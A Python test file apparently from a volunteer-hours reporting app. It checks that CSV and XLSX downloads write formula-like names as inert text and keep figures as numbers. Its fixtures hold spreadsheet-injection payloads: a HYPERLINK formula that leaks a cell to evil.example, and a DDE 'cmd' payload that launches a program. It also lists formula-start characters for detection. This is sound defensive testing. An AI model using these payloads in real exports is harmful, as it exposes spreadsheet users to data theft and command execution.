"""Spreadsheet formula injection (OWASP "CSV injection"): names that people type (meeting points,
a centre's own activities, centres) reach the CSV and XLSX downloads, which coordinators and the
state open in a spreadsheet. A name like =HYPERLINK(…) must arrive there as text, never as a
formula, while the figures stay numbers."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from tests.helpers import clock_frozen_at
from tests.reports.readers import read_xlsx
from volunteers.activities.services import add_centre_activity
from volunteers.extensions import db
from volunteers.hours.services import HoursInput, approve, log_hours
from volunteers.reports.csv_export import to_csv
from volunteers.reports.tables import COUNT, TEXT, Cell, Column, Table, inert_text
from volunteers.reports.xlsx_export import to_xlsx

NOW = datetime(2026, 11, 20, 18, 0, tzinfo=ZoneInfo("Europe/Berlin"))
OCTOBER = "from=2026-10-01&to=2026-10-31"
MEETING_POINT = '=HYPERLINK("http://evil.example/?leak="&B2,"Klick")'
ACTIVITY = "+SUM(1;2)"
CENTRE = "@SUM(A1) Zentrum"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

frozen_clock = clock_frozen_at(NOW)


@pytest.fixture
def hostile_names(make_centre, make_meeting_point, make_user):
    centre = make_centre("duesseldorf", name=CENTRE)
    place = make_meeting_point(centre, name=MEETING_POINT)
    activity = add_centre_activity(centre=centre, name=ACTIVITY, baustein="B")
    volunteer = make_user("volunteer", centre)
    coordinator = make_user("coordinator", centre)
    entry, _created = log_hours(
        centre=centre,
        person=volunteer,
        values=HoursInput(work_date=date(2026, 10, 5), minutes=95, activity=activity.slug, meeting_point=place),
    )
    approve(entry=entry, by=coordinator)
    db.session.commit()
    return coordinator


def csv_cells(body: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for field in row]


def xlsx_cells(body: bytes) -> list:
    return [cell for sheet in read_xlsx(body) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def runs(text: str) -> bool:
    return text.lstrip().startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS)


def assert_inert(fmt: str, body: bytes, names: list[str]) -> None:
    """No cell is a formula, each name reads with an apostrophe before it, figures are numbers."""
    if fmt == "csv":
        texts = csv_cells(body)
        assert "95" in texts  # the minutes, as a number without an apostrophe
        numbers = []
    else:
        cells = xlsx_cells(body)
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        numbers = [cell.value for cell in cells if cell.data_type == "n"]
        assert 95 in numbers and Decimal("1.58") in [Decimal(str(n)).quantize(Decimal("0.01")) for n in numbers]
    assert not [text for text in texts if runs(text)]
    for name in names:
        assert "'" + name in texts, (fmt, name)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("reader", ["coordinator", "state"])
def test_names_in_the_centre_report_download_are_text(client, login, hostile_names, fmt, reader):
    login(user=hostile_names) if reader == "coordinator" else login("state")
    response = client.get(f"/reports/centre/duesseldorf?{OCTOBER}&format={fmt}")
    assert response.status_code == 200
    assert_inert(fmt, response.data, [MEETING_POINT, ACTIVITY])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_centre_names_in_the_state_download_are_text(client, login, hostile_names, fmt):
    login("state")
    response = client.get(f"/reports/state?{OCTOBER}&format={fmt}")
    assert response.status_code == 200
    body = response.data
    texts = csv_cells(body) if fmt == "csv" else [c.value for c in xlsx_cells(body) if isinstance(c.value, str)]
    assert "'" + CENTRE in texts
    assert not [text for text in texts if runs(text)]
    if fmt == "xlsx":
        assert not [cell.coordinate for cell in xlsx_cells(body) if cell.data_type == "f"]


@pytest.mark.parametrize(
    "text, written",
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Sprachcafé = Begegnung", "Sprachcafé = Begegnung"),
        ("", ""),
    ],
)
def test_inert_text_neutralises_what_a_spreadsheet_would_run(text, written):
    assert inert_text(text) == written


def test_the_builders_write_text_as_text_and_numbers_as_numbers():
    table = Table(
        "t",
        "-Titel",
        [Column("=Spalte", TEXT), Column("Anzahl", COUNT)],
        [[Cell("\t=cmd|' /C calc'!A0", TEXT), Cell(-3, COUNT)], [Cell("ok\x01", TEXT), Cell(7, COUNT)]],
    )
    header = [("Bericht", "=Zentrum")]
    assert csv_cells(to_csv(header, [table])) == [
        "Bericht",
        "'=Zentrum",
        "'-Titel",
        "'=Spalte",
        "Anzahl",
        "'\t=cmd|' /C calc'!A0",
        "-3",
        "ok\x01",
        "7",
    ]
    cells = xlsx_cells(to_xlsx(header, [table]))
    assert [(c.value, c.data_type) for c in cells if c.row > 1 or c.parent.title != "Übersicht"] == [
        ("'=Spalte", "s"),
        ("Anzahl", "s"),
        ("'\t=cmd|' /C calc'!A0", "s"),
        (-3, "n"),
        ("ok", "s"),  # a control character XML cannot hold is left out rather than failing the file
        (7, "n"),
    ]
